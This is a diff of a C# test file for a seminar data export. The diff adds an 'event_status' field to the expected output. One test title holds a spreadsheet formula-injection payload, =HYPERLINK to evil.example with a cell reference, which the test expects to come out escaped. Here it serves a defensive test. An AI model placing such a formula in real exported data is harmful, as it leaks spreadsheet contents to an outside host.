@@ -75,13 +75,13 @@ public class ExportTests(ExportSite shared) : IClassFixture<ExportSite>
         Assert.Equal(["awkward", "日本"], rows.Select(r => r["key"]));
         Assert.Equal(
             [
-                "key: awkward", "title: '=HYPERLINK(\"https://evil.example/?\"&A1), \"loops\", </script> 😀", "date: 2020-02-13", "end_date: ", "time: 16:00", "end_time: 17:30", "time_zone: Europe/London",
+                "key: awkward", "title: '=HYPERLINK(\"https://evil.example/?\"&A1), \"loops\", </script> 😀", "date: 2020-02-13", "end_date: ", "time: 16:00", "end_time: 17:30", "time_zone: Europe/London", "event_status: scheduled",
                 "speakers: Ludwig van der Berg; 大谷直樹", "affiliations: King's & Co", "categories: Handicraft", "tags: '-rope; wire", "location: '@home", "language: nl", "url: https://seminars.example.org/seminars/awkward/",
                 "slides: https://seminars.example.org/slides/My%20deck.pdf", "recordings: https://video.example/1", "posted_by: Lucy Chapman", "posted: 2020-02-20", "updated: 2021-03-04", "original_title: Loops",
                 "abstract: First line,\nwith marks and a link.\n\nSecond; <a href=\"/x\">",
             ],
             rows[0].Select(c => $"{c.Key}: {c.Value}"));
-        Assert.Equal(["key: 日本", "title: plain", "date: 2019", "language: en-GB", "url: https://seminars.example.org/seminars/%E6%97%A5%E6%9C%AC/", "abstract: One line\nand another"], rows[1].Where(c => c.Value.Length > 0).Select(c => $"{c.Key}: {c.Value}"));
+        Assert.Equal(["key: 日本", "title: plain", "date: 2019", "event_status: scheduled", "language: en-GB", "url: https://seminars.example.org/seminars/%E6%97%A5%E6%9C%AC/", "abstract: One line\nand another"], rows[1].Where(c => c.Value.Length > 0).Select(c => $"{c.Key}: {c.Value}"));
     }
 
     [Fact]
@@ -104,6 +104,7 @@ public class ExportTests(ExportSite shared) : IClassFixture<ExportSite>
               "time": "16:00",
               "end_time": "17:30",
               "time_zone": "Europe/London",
+              "event_status": "scheduled",
               "speakers": [
                 {
                   "name": "Ludwig van der Berg",
